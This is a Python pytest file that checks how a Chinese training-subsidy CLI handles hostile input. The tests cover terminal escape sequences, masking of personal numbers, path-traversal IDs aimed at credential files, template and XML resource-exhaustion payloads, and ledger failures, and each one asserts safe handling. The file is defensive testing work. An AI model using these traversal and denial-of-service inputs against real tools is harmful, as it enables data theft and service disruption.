"""Hostile input, round two (issue 14): markup and control characters in cells, escape
sequences on the terminal, masking of numbers written in other shapes, a calamine panic,
the order of a payment run, ``ledger reprint``, bounded templates, and the rest of the
issue's defects, each pinned by the behaviour the clerk sees."""

from __future__ import annotations

import datetime as dt
import json
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest

from conftest import make_resident_id, plant_unconvertible_date, write_rows
from inprocess import Outcome, run_main
from skillpolicy.outputs import payouts
from skillpolicy.render.engine import RenderError, _render_bounded, make_environment

PROGRAM = "guangxi-2012-technician"
HEADER = [
    "姓名", "性别", "身份证号", "职业(工种)", "现等级", "取证日期", "申报等级", "培训形式",
    "鉴定结果", "培训机构",
]  # fmt: skip
ID_A = make_resident_id("45010219800101001")
ID_B = make_resident_id("45010219850202002")


def trainee(name: str, id_number: str, institution: str = "南宁市高级技工学校") -> list[Any]:
    return [
        name, "男" if int(id_number[16]) % 2 else "女", id_number, "焊工", "高级工",
        dt.date(2008, 1, 1), "技师", "脱产", "合格", institution,
    ]  # fmt: skip


def roster(path: Path, rows: list[list[Any]]) -> Path:
    return write_rows(path, [["学员花名册"], HEADER, *rows])


def patch_text(path: Path, marker: str, replacement: bytes) -> Path:
    """Replace ``marker`` in every part of the workbook with raw XML bytes (``_x001B_``…)."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data.replace(marker.encode(), replacement))
    return path


def run(tmp_path: Path, capsys: Any, monkeypatch: Any, *args: str | Path) -> Outcome:
    return run_main(*args, cwd=tmp_path, capsys=capsys, monkeypatch=monkeypatch)


# --------------------------------------------------------------------------- markup


@pytest.mark.parametrize("command", ["validate", "subsidy"])
def test_markup_in_cells_is_printed_as_text(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A 姓名 of `[/b]张三` and an institution of `[red]x[/]` print literally, never exit 3."""
    sheet = roster(
        tmp_path / "r.xlsx",
        [trainee("[/b]张三", ID_A, "[red]某机构[/]"), trainee("李四[bold]", ID_B, "[/]")],
    )
    result = run(tmp_path, capsys, monkeypatch, command, sheet, "-p", PROGRAM)
    assert result.code in (0, 1), result.err
    assert "内部错误" not in result.err
    if command == "subsidy":
        assert "[/b]张三" in result.out and "[red]某机构[/]" in result.out


def test_markup_in_a_committed_run_is_recorded_once_and_printed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """subsidy --commit with markup in cells records the run and prints it (no crash after)."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("[/b]张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"
    result = run(
        tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
        "--commit", "--out", tmp_path / "pay.xlsx",
    )  # fmt: skip
    assert result.code == 0, result.err
    assert "[/b]张三" in result.out
    with sqlite3.connect(ledger) as db:
        assert db.execute("SELECT count(*) FROM lines").fetchone() == (1,)


# --------------------------------------------------------------------------- control characters


def test_control_characters_are_removed_with_a_warning_and_outputs_stay_valid(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """`_x000B_`, ESC and NUL in 培训机构: a warning on the cell; schedule written and valid."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A, "南宁XMARK学校")])
    patch_text(sheet, "XMARK", b"_x000B__x001B_[2J_x0000_")
    out = tmp_path / "pay.xlsx"
    result = run(
        tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--out", out,
        "--ledger", tmp_path / "l.sqlite3", "--commit", "--format", "json",
    )  # fmt: skip
    assert result.code == 0, result.err
    payload = json.loads(result.out)
    assert payload["lines"][0]["payee"] == "南宁[2J学校"
    book = openpyxl.load_workbook(out)
    assert "南宁_2J学校" in book.sheetnames  # [ is not allowed in a sheet title
    checked = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, "-f", "json")
    findings = json.loads(checked.out)["findings"]
    assert [(f["row"], f["column"], f["rule"], f["severity"]) for f in findings] == [
        (3, "培训机构", "control-characters", "warning")
    ]


def test_render_with_control_characters_writes_documents_word_can_open(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """Notices rendered from a roster whose cells hold control characters are valid .docx."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张XMARK三", ID_A, "南宁XMARK学校")])
    patch_text(sheet, "XMARK", b"_x0001__x001B_")
    folder = tmp_path / "out"
    folder.mkdir()
    result = run(
        tmp_path, capsys, monkeypatch, "render", "payout-notice", "--data", sheet, "-p",
        PROGRAM, "--out", folder,
    )  # fmt: skip
    assert result.code in (0, 1), result.err
    documents = sorted(folder.glob("*.docx"))
    assert documents
    for document in documents:
        text = "\n".join(p.text for p in docx.Document(str(document)).paragraphs)
        assert "\x1b" not in text and "\x01" not in text


# --------------------------------------------------------------------------- the terminal


def test_escape_sequences_and_bidi_controls_are_shown_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """ESC, OSC-8 and U+202E in cells reach the terminal as visible escapes, never raw."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张\u202e三", ID_A, "机构XMARK")])
    patch_text(sheet, "XMARK", b"_x001B_]8;;http://evil/_x001B_\\")
    result = run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM)
    assert result.code in (0, 1), result.err
    assert "\x1b" not in result.out + result.err
    assert "\u202e" not in result.out + result.err
    assert "\\u202e" in result.out


def test_a_file_name_with_a_newline_gives_a_one_line_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """An unreadable input whose name holds a newline: one line on stderr, exit 2."""
    bad = tmp_path / "花名\n册.xlsx"
    bad.write_bytes(b"not a workbook")
    result = run(tmp_path, capsys, monkeypatch, "validate", bad, "-p", PROGRAM)
    assert result.code == 2
    assert len(result.err_lines) == 1 and "花名\\n册.xlsx" in result.err


# --------------------------------------------------------------------------- masking


@pytest.mark.parametrize(
    ("written", "hidden"),
    [
        ("139.2986.1234", "2986"),
        ("6222-0212-3456-7890-123", "0212-3456"),
        ("1392\u200b9861234", "9861"),
        ("abc13929861234", "2986"),
        (f"ID{ID_A}x", ID_A[4:14]),
    ],
)
@pytest.mark.parametrize("output", ["table", "json"])
def test_numbers_typed_in_a_name_are_masked_in_every_shape(
    written: str,
    hidden: str,
    output: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: Any,
) -> None:
    """A phone, card or identity number in 姓名 (dots, dashes, U+200B, glued) is masked."""
    sheet = roster(tmp_path / "r.xlsx", [trainee(written, ID_A)])
    result = run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "-f", output)
    assert result.code in (0, 1), result.err
    assert hidden not in result.out + result.err


def test_a_number_is_masked_before_a_narrow_table_wraps_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A table cell wrapping inside a number still shows it masked."""
    monkeypatch.setenv("COLUMNS", "60")
    from skillpolicy.cli import common

    monkeypatch.setattr(common.stdout, "_width", 60)
    sheet = roster(tmp_path / "r.xlsx", [trainee("某某某某某某某某某某13929861234", ID_A)])
    result = run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM)
    assert "2986" not in result.out.replace("\n", "").replace("│", "").replace(" ", "")


def test_the_default_payout_schedule_masks_phone_and_card_numbers(tmp_path: Path) -> None:
    """Without --full-ids the schedule masks a phone typed in 姓名 (no longer only IDs)."""
    from skillpolicy.compute.subsidy import compute_subsidy
    from skillpolicy.loading.programfiles import load_program

    sheet = roster(tmp_path / "r.xlsx", [trainee("张三139.2986.1234", ID_A)])
    payout = compute_subsidy(sheet, load_program(PROGRAM))
    out = tmp_path / "pay.xlsx"
    payouts.write_payout_workbook(payout, out)
    values = [
        str(cell.value)
        for sheet_ in openpyxl.load_workbook(out).worksheets
        for row in sheet_.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert not any("2986" in value for value in values)
    assert any("张三139.****.1234" in value for value in values)


# --------------------------------------------------------------------------- crashes


def test_a_date_cell_calamine_cannot_convert_is_one_line_naming_the_cell(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A date-formatted -1.1e11 (a Rust panic in calamine): exit 2, one line naming F4."""
    path = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A), trainee("李四", ID_B)])
    plant_unconvertible_date(path, "F4")
    result = run(tmp_path, capsys, monkeypatch, "validate", path, "-p", PROGRAM)
    assert result.code == 2
    assert len(result.err_lines) == 1
    assert "F4" in result.err and "日期" in result.err


def test_a_base_exception_from_inside_is_an_internal_error_not_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A BaseException that is not an Exception (a panic) ends in exit 3, one line."""

    class Panic(BaseException):
        pass

    def explode(*_: Any, **__: Any) -> None:
        raise Panic("boom")

    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    monkeypatch.setattr("skillpolicy.cli.validate.validate_sheet", explode)
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM)
    assert result.code == 3
    assert result.err_lines == [line for line in result.err_lines if "内部错误" in line]


# --------------------------------------------------------------------------- payment order


def test_a_schedule_that_cannot_be_written_records_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """The schedule is written before the commit: a writer failure leaves the ledger empty."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"

    def broken(*_: Any, **__: Any) -> Any:
        raise ValueError("writer failed")

    monkeypatch.setattr(payouts, "build_payout_workbook", broken)
    result = run(
        tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
        "--commit", "--out", tmp_path / "pay.xlsx",
    )  # fmt: skip
    assert result.code == 3
    if ledger.exists():
        with sqlite3.connect(ledger) as db:
            assert db.execute("SELECT count(*) FROM lines").fetchone() == (0,)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["r.xlsx", *([ledger.name] if ledger.exists() else [])]
        + [p.name for p in tmp_path.glob("l.sqlite3-*")]
    )


def test_a_failed_commit_leaves_no_schedule(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A commit that fails leaves no payout schedule under its name nor a temporary file."""
    from skillpolicy.domain.errors import InputError

    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])

    def refuse(*_: Any, **__: Any) -> None:
        raise InputError("写入台账失败：磁盘空间不足")

    monkeypatch.setattr("skillpolicy.cli.subsidy.commit_payout", refuse)
    out = tmp_path / "out"
    out.mkdir()
    result = run(
        tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger",
        tmp_path / "l.sqlite3", "--commit", "--out", out / "pay.xlsx",
    )  # fmt: skip
    assert result.code == 2
    assert list(out.iterdir()) == []


def _payee_rows(path: Path) -> list[tuple[str, list[Any]]]:
    book = openpyxl.load_workbook(path)
    found = []
    for sheet in book.worksheets[1:-2]:  # the payee sheets, between 汇总 and 未发放, 说明
        rows = [
            [c.value for c in row[:3]] + [row[-4].value if len(row) > 3 else None]
            for row in sheet.iter_rows()
            if isinstance(row[0].value, int)
        ]
        found.append((sheet.title, rows))
    return found


def test_ledger_reprint_rebuilds_the_schedule_of_a_committed_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """`ledger reprint RUN --out` writes the same payee sheets and lines as the original."""
    sheet = roster(
        tmp_path / "r.xlsx",
        [trainee("张三", ID_A), trainee("李四", ID_B, "广西桂南技师学院")],
    )
    ledger = tmp_path / "l.sqlite3"
    original = tmp_path / "pay.xlsx"
    paid = run(
        tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
        "--commit", "--out", original, "-f", "json",
    )  # fmt: skip
    assert paid.code == 0, paid.err
    with sqlite3.connect(ledger) as db:
        (run_id,) = db.execute("SELECT run_id FROM runs").fetchone()
    again = tmp_path / "again.xlsx"
    result = run(tmp_path, capsys, monkeypatch, "ledger", "reprint", run_id, "--ledger", ledger,
                 "--out", again)  # fmt: skip
    assert result.code == 0, result.err
    assert _payee_rows(again) == _payee_rows(original)
    assert len(_payee_rows(again)) == 2


def test_ledger_reprint_of_an_unknown_run_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """Reprinting a run the ledger does not hold: exit 2, one line, nothing written."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"
    run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
        "--commit")  # fmt: skip
    result = run(tmp_path, capsys, monkeypatch, "ledger", "reprint", "nope", "--ledger", ledger,
                 "--out", tmp_path / "x.xlsx")  # fmt: skip
    assert result.code == 2 and len(result.err_lines) == 1 and "nope" in result.err
    assert not (tmp_path / "x.xlsx").exists()


# --------------------------------------------------------------------------- templates


@pytest.mark.parametrize(
    "source",
    [
        "{{ 'x' * 10**10 }}",
        "{% for i in range(999999999) %}{{ i }}{% endfor %}",
        "{{ 9 ** 999999 }}",
        "{% for i in range(90000) %}{{ 'y' * 900000 }}{% endfor %}",
    ],
)
def test_templates_are_bounded_by_the_sandbox(source: str) -> None:
    """Huge repetition, ranges, powers and output stop with a limit error, quickly."""
    from skillpolicy.render.engine import TemplateLimit

    with pytest.raises(TemplateLimit):
        _render_bounded(make_environment().from_string(source), {})


def test_an_ordinary_template_still_renders() -> None:
    """Small loops, repetition and arithmetic are untouched by the limits."""
    template = make_environment().from_string(
        "{{ 'ab' * 2 }}{% for i in range(3) %}{{ i }}{% endfor %}{{ 2 ** 10 }}"
    )
    assert _render_bounded(template, {}) == "abab0121024"


def test_render_error_is_an_input_error() -> None:
    """A template beyond the limits is told to the admin as exit 2 (RenderError)."""
    from skillpolicy.domain.errors import InputError

    assert issubclass(RenderError, InputError)


# --------------------------------------------------------------------------- sheets and names


def set_sheet_name(path: Path, raw_name: bytes) -> Path:
    """Rename the first sheet in workbook.xml to ``raw_name`` exactly as written in XML."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b'name="Sheet"', b'name="' + raw_name + b'"'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def test_a_sheet_name_with_a_line_break_annotates_and_prints_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A sheet named `花名\\n册` (raw in the XML): --annotate works; the header line is one line."""
    sheet = set_sheet_name(
        roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)]), "花名\n册".encode()
    )
    out = tmp_path / "marked.xlsx"
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, "--annotate", out)
    assert result.code == 0, result.err
    assert "工作表「花名\\n册」" in result.out
    assert openpyxl.load_workbook(out).sheetnames[0] == "花名 册"


# --------------------------------------------------------------------------- dates and months


@pytest.mark.parametrize(
    ("option", "value"),
    [("--as-of", "２０１２-０８-３１"), ("--as-of", "２０１２年８月３１日")],
)
def test_full_width_digits_in_a_date_option_are_folded(
    option: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """--as-of typed with full-width digits means the same date as ASCII digits."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    wide = run(
        tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, option, value, "-f", "json"
    )
    narrow = run(
        tmp_path,
        capsys,
        monkeypatch,
        "validate",
        sheet,
        "-p",
        PROGRAM,
        option,
        "2012-08-31",
        "-f",
        "json",
    )
    assert (wide.code, wide.out) == (narrow.code, narrow.out)


@pytest.mark.parametrize("value", ["9999-01-01", "１９２０-０１-０１"])
def test_a_date_option_out_of_range_is_one_line(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """--as-of in the year 9999 or 1920: exit 2 naming the option and the allowed years."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, "--as-of", value)
    assert result.code == 2 and len(result.err_lines) == 1
    assert "--as-of" in result.err and "1949" in result.err


def test_report_month_in_full_width_digits_is_the_same_month(tmp_path: Path) -> None:
    """`--month ２０１４-０６` is 2014-06; a year outside 2000–2099 is refused."""
    from skillpolicy.domain.errors import InputError
    from skillpolicy.report.model import parse_month

    assert parse_month("２０１４-０６") == "2014-06"
    assert parse_month("２０１４－６") == "2014-06"
    for bad in ("９９９９-０１", "1999-12", "2014-13"):
        with pytest.raises(InputError, match="--month"):
            parse_month(bad)


def test_report_monthly_with_full_width_month_writes_the_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """report monthly --month ２０１４-０６ ends and writes 2014-06 (it once never ended)."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"
    run(
        tmp_path,
        capsys,
        monkeypatch,
        "subsidy",
        sheet,
        "-p",
        PROGRAM,
        "--ledger",
        ledger,
        "--commit",
    )
    result = run(tmp_path, capsys, monkeypatch, "report", "monthly", "--month", "２０１４-０６",
                 "--ledger", ledger, "--out", tmp_path / "月报")  # fmt: skip
    assert result.code == 0, result.err
    assert (tmp_path / "月报" / "2014-06" / "月报-2014-06.xlsx").is_file()


# --------------------------------------------------------------------------- inputs


def test_an_input_that_is_a_fifo_is_refused_without_blocking(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """validate on a FIFO (or --params naming one): exit 2 at once, one line."""
    import os

    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    result = run(tmp_path, capsys, monkeypatch, "validate", fifo, "-p", PROGRAM)
    assert result.code == 2 and "不是普通文件" in result.err and len(result.err_lines) == 1
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, "--params", fifo)
    assert result.code == 2 and "不是普通文件" in result.err


@pytest.mark.parametrize(
    ("table", "line", "words"),
    [
        (
            "fujian-2013-free-training",
            'cost_per_trainee = "1e30"',
            ["cost_per_trainee", "99,999,999.99"],
        ),
        (
            "fujian-2013-free-training",
            'cost_per_trainee = "1000000000000"',
            ["cost_per_trainee", "0.00 至"],
        ),
        ("guangxi-2019-lifelong", 'shortage_uplift = "1e30"', ["shortage_uplift", "1000"]),
    ],
)
def test_absurd_amounts_in_the_params_file_name_the_parameter_and_range(
    table: str,
    line: str,
    words: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: Any,
) -> None:
    """An amount of 1e30 or ≥ 1万亿: exit 2 naming the parameter and the allowed range."""
    params = tmp_path / "p.toml"
    params.write_text(f"[{table}]\n{line}\n", encoding="utf-8")
    result = run(tmp_path, capsys, monkeypatch, "program", "show", table, "--params", params)
    assert result.code == 2 and len(result.err_lines) == 1
    assert all(word in result.err for word in words)


def test_deeply_nested_and_huge_data_files_are_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A params file nested 50,000 deep, or of 3 MB: exit 2 in one line, no RecursionError."""
    deep = tmp_path / "deep.toml"
    deep.write_text("[fujian-2013-free-training]\nx = " + "[" * 50_000 + "]" * 50_000 + "\n")
    result = run(
        tmp_path,
        capsys,
        monkeypatch,
        "program",
        "show",
        "fujian-2013-free-training",
        "--params",
        deep,
    )
    assert result.code == 2 and "嵌套" in result.err and len(result.err_lines) == 1
    huge = tmp_path / "huge.toml"
    huge.write_text("# " + "x" * (3 << 20) + "\n")
    result = run(
        tmp_path,
        capsys,
        monkeypatch,
        "program",
        "show",
        "fujian-2013-free-training",
        "--params",
        huge,
    )
    assert result.code == 2 and "过大" in result.err and len(result.err_lines) == 1


def test_a_deeply_nested_catalog_dir_file_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A --catalog-dir catalog nested 50,000 deep: exit 2 naming the file."""
    folder = tmp_path / "mine" / "occupations"
    folder.mkdir(parents=True)
    (folder / "deep.toml").write_text("x = " + "{a = " * 50_000 + "1" + "}" * 50_000 + "\n")
    result = run(
        tmp_path, capsys, monkeypatch, "--catalog-dir", tmp_path / "mine", "catalog", "show", "deep"
    )
    assert result.code == 2 and "deep.toml" in result.err and len(result.err_lines) == 1


@pytest.mark.parametrize(
    "args",
    [
        ["catalog", "show", "../../../../etc/secret/creds"],
        ["validate", "r.xlsx", "-p", "../programs/guangxi-2012-technician"],
    ],
)
def test_ids_are_ids_never_paths(
    args: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """A catalog or program id with a path in it is refused: exit 2, '编号' named."""
    roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    secret = tmp_path / "etc" / "secret"
    secret.mkdir(parents=True)
    (secret / "creds.toml").write_text('password = "hunter2"\n')
    result = run(tmp_path, capsys, monkeypatch, *args)
    assert result.code == 2 and "编号" in result.err and "hunter2" not in result.out + result.err


def test_shortage_catalog_toml_must_sit_beside_the_params_file(tmp_path: Path) -> None:
    """shortage_catalog = "../x.toml" is refused naming the parameter (only a file name)."""
    from skillpolicy.domain.errors import ParameterError
    from skillpolicy.loading.programfiles import list_programs, load_program
    from skillpolicy.policy.params import load_params
    from skillpolicy.rules.xuchang import shortage_catalog

    program = load_program("xuchang-2013-revitalization")
    params_file = tmp_path / "p.toml"
    params_file.write_text('[xuchang-2013-revitalization]\nshortage_catalog = "../x.toml"\n')
    params = load_params(params_file, program, list_programs())

    class Holder:
        class context:
            pass

    Holder.context.params = params  # type: ignore[attr-defined]
    with pytest.raises(ParameterError, match="shortage_catalog"):
        shortage_catalog(Holder)  # type: ignore[arg-type]


def test_catalog_import_with_a_line_break_in_the_title_loads_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """--title with a newline: the written catalog loads and shows the title as written."""
    sheet = write_rows(tmp_path / "c.xlsx", [["行业", "职业（工种）"], ["机械", "车工"]])
    out = tmp_path / "my-list.toml"
    result = run(tmp_path, capsys, monkeypatch, "catalog", "import", sheet, "--id", "my-list",
                 "--title", "第一行\n第二行", "--source", "本地", "--out", out)  # fmt: skip
    assert result.code == 0, result.err
    from skillpolicy.policy.catalog import load_catalog_file

    assert load_catalog_file(out).title == "第一行\n第二行"


# --------------------------------------------------------------------------- the ledger


def test_a_ledger_whose_unique_index_was_dropped_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """DROP INDEX lines_active_key: every command refuses the ledger in one line, no exit 3."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"
    run(
        tmp_path,
        capsys,
        monkeypatch,
        "subsidy",
        sheet,
        "-p",
        PROGRAM,
        "--ledger",
        ledger,
        "--commit",
    )
    with sqlite3.connect(ledger) as db:
        db.execute("DROP INDEX lines_active_key")
    for args in (["ledger", "list"], ["subsidy", sheet, "-p", PROGRAM, "--commit"]):
        result = run(tmp_path, capsys, monkeypatch, *args, "--ledger", ledger)
        assert result.code == 2 and len(result.err_lines) == 1
        assert "lines_active_key" in result.err and "损坏" in result.err
    with sqlite3.connect(ledger) as db:
        assert db.execute("SELECT count(*) FROM lines").fetchone() == (1,)


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (sqlite3.OperationalError("database or disk is full"), ["磁盘空间不足", "没有损坏"]),
        (sqlite3.OperationalError("database is locked"), ["占用"]),
    ],
)
def test_a_full_disk_or_locked_ledger_is_not_called_damaged(
    error: sqlite3.Error,
    words: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: Any,
) -> None:
    """SQLITE_FULL or a lock while opening: one line that says so, never "已损坏"."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    ledger = tmp_path / "l.sqlite3"
    run(
        tmp_path,
        capsys,
        monkeypatch,
        "subsidy",
        sheet,
        "-p",
        PROGRAM,
        "--ledger",
        ledger,
        "--commit",
    )

    real_connect = sqlite3.connect

    class Failing:
        def __init__(self, inner: sqlite3.Connection) -> None:
            self.inner = inner

        def execute(self, sql: str, *args: Any) -> Any:
            if "sqlite_master" in sql:
                raise error
            return self.inner.execute(sql, *args)

        def __getattr__(self, name: str) -> Any:
            return getattr(self.inner, name)

    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: Failing(real_connect(*a, **k)))
    result = run(tmp_path, capsys, monkeypatch, "ledger", "list", "--ledger", ledger)
    assert result.code == 2 and len(result.err_lines) == 1
    assert all(word in result.err for word in words) and "已损坏" not in result.err


# --------------------------------------------------------------------------- hidden rows


def test_hidden_rows_and_columns_with_data_are_a_review_finding_and_marked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """Rows hidden or of zero height, and a hidden read column: sheet-level review findings
    naming them; the annotated copy shows them again, marked."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A), trainee("李四", ID_B)])
    book = openpyxl.load_workbook(sheet)
    ws = book.active
    assert ws is not None
    ws.row_dimensions[3].hidden = True
    ws.column_dimensions["D"].hidden = True
    book.save(sheet)
    with zipfile.ZipFile(sheet) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b'<row r="4"', b'<row r="4" ht="0" customHeight="1"'
    )
    with zipfile.ZipFile(sheet, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    out = tmp_path / "marked.xlsx"
    result = run(
        tmp_path,
        capsys,
        monkeypatch,
        "validate",
        sheet,
        "-p",
        PROGRAM,
        "-f",
        "json",
        "--annotate",
        out,
    )
    assert result.code == 0, result.err
    hidden = [f for f in json.loads(result.out)["findings"] if f["rule"] == "hidden-cells"]
    assert [(f["row"], f["severity"]) for f in hidden] == [(None, "review"), (None, "review")]
    text = " ".join(f["message"] for f in hidden)
    assert "第3行" in text and "第4行" in text and "D列" in text
    copy = openpyxl.load_workbook(out).worksheets[0]
    assert not copy.row_dimensions[3].hidden and not copy.column_dimensions["D"].hidden
    assert copy["A3"].fill.fgColor.rgb.endswith("FFE699")


def test_a_sheet_without_hidden_rows_has_no_such_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """Nothing hidden, nothing said (an empty hidden row is not reported either)."""
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)])
    book = openpyxl.load_workbook(sheet)
    ws = book.active
    assert ws is not None
    ws.row_dimensions[40].hidden = True  # holds nothing
    book.save(sheet)
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM, "-f", "json")
    assert not [f for f in json.loads(result.out)["findings"] if f["rule"] == "hidden-cells"]


# --------------------------------------------------------------------------- denial of service


def inject_sheet_xml(path: Path, xml: bytes, *, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    name = "xl/worksheets/sheet1.xml"
    parts[name] = parts[name].replace(b"</sheetData>", b"</sheetData>" + xml)
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    return path


@pytest.mark.parametrize(
    ("xml", "words"),
    [
        (b'<mergeCells count="1"><mergeCell ref="A10:XFD1048576"/></mergeCells>', ["合并单元格"]),
        (
            b"<mergeCells>" + b'<mergeCell ref="A1:XFD1"/>' * 100_000 + b"</mergeCells>",
            ["合并单元格"],
        ),
        (b'<hyperlinks><hyperlink ref="A10:XFD1048576" display="x"/></hyperlinks>', ["超链接"]),
        (
            b"<dataValidations>" + b'<dataValidation sqref="A1"/>' * 10_001 + b"</dataValidations>",
            ["数据验证"],
        ),
        (b'<conditionalFormatting sqref="A1"/>' * 10_001, ["条件格式"]),
    ],
)
def test_what_openpyxl_would_build_is_bounded_before_any_parser(
    xml: bytes,
    words: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: Any,
) -> None:
    """A few kilobytes of merges, hyperlinks, validations or formats: exit 2 in one line."""
    import time

    sheet = inject_sheet_xml(roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)]), xml)
    assert sheet.stat().st_size < 200_000
    started = time.monotonic()
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM,
                 "--annotate", tmp_path / "m.xlsx")  # fmt: skip
    assert time.monotonic() - started < 20
    assert result.code == 2 and len(result.err_lines) == 1
    assert all(word in result.err for word in words)


def test_unreferenced_parts_are_not_scanned_for_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
